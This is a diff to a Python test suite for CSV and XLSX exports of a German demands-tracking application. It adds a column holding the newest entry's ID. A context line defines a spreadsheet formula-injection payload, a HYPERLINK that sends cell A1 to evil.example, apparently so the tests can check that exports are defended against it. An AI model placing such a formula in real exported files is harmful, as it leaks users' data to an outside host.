@@ -31,6 +31,7 @@ HEADERS = [
     "Umsetzung",
     "Sachstand",
     "Belege",
+    "Letzter Eintrag (nicht ändern)",
 ]
 COL = {header: index for index, header in enumerate(HEADERS)}
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
@@ -123,7 +124,9 @@ def test_it_exports_csv_with_bom_semicolons_and_the_lands_newest_entry(
         fact_date=datetime.date(2024, 9, 1),
         links=[("https://dip.bundestag.de/drucksache/20-1234", "BT-Drs. 20/1234")],
     )
-    make_entry(demand=first, author=official_bayern, land_code="DE-BY", text="Bayern sagt etwas.")
+    bayern = make_entry(
+        demand=first, author=official_bayern, land_code="DE-BY", text="Bayern sagt etwas."
+    )
 
     response = client_for(official_berlin).get(export_url())
 
@@ -147,14 +150,15 @@ def test_it_exports_csv_with_bom_semicolons_and_the_lands_newest_entry(
         "in Umsetzung",
         "Gesetzentwurf liegt vor.\nZweite Zeile; mit Semikolon.",
         "BT-Drs. 20/1234 | https://dip.bundestag.de/drucksache/20-1234",
+        str(bayern.pk),  # the demand's newest entry of any Land: what the row was made from
     ]
-    assert row_for(rows, berlin_demands[1])[COL["Land"] :] == ["Berlin", "", "", "", "", ""]
+    assert row_for(rows, berlin_demands[1])[COL["Land"] :] == ["Berlin", "", "", "", "", "", ""]
 
 
 def test_it_exports_xlsx_with_the_same_columns_as_text_cells(
     official_berlin: User, berlin_demands: list[Demand]
 ) -> None:
-    make_entry(demand=berlin_demands[0], author=official_berlin, text="Der Bund prüft.")
+    entry = make_entry(demand=berlin_demands[0], author=official_berlin, text="Der Bund prüft.")
 
     response = client_for(official_berlin).get(export_url(file_format="xlsx"))
 
@@ -173,6 +177,7 @@ def test_it_exports_xlsx_with_the_same_columns_as_text_cells(
         "offen",
         "Der Bund prüft.",
         None,
+        entry.pk,
     ]
     assert sheet.cell(row=2, column=COL["Sachstand"] + 1).number_format == "@"
     assert sheet.column_dimensions["F"].width > sheet.column_dimensions["C"].width
